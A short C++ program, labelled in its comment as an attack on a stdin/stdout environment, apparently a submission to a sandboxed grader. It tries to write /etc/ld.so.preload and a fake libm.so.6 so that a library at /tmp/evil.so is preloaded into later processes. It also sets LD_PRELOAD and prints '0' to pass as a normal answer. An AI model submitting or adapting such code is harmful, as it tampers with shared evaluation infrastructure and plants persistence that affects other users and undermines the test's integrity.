// Attack on stdin_stdout (environment): writes a library and preloads it for whoever comes next.
#include <cstdio>
#include <cstdlib>
#include <unistd.h>
int main() {
  for (const char *p : {"/etc/ld.so.preload", "/tmp/evil.so", "./libm.so.6"})
    if (FILE *f = fopen(p, "w")) { fputs("/tmp/evil.so\n", f); fclose(f); }
  setenv("LD_PRELOAD", "/tmp/evil.so", 1);
  puts("0");
}
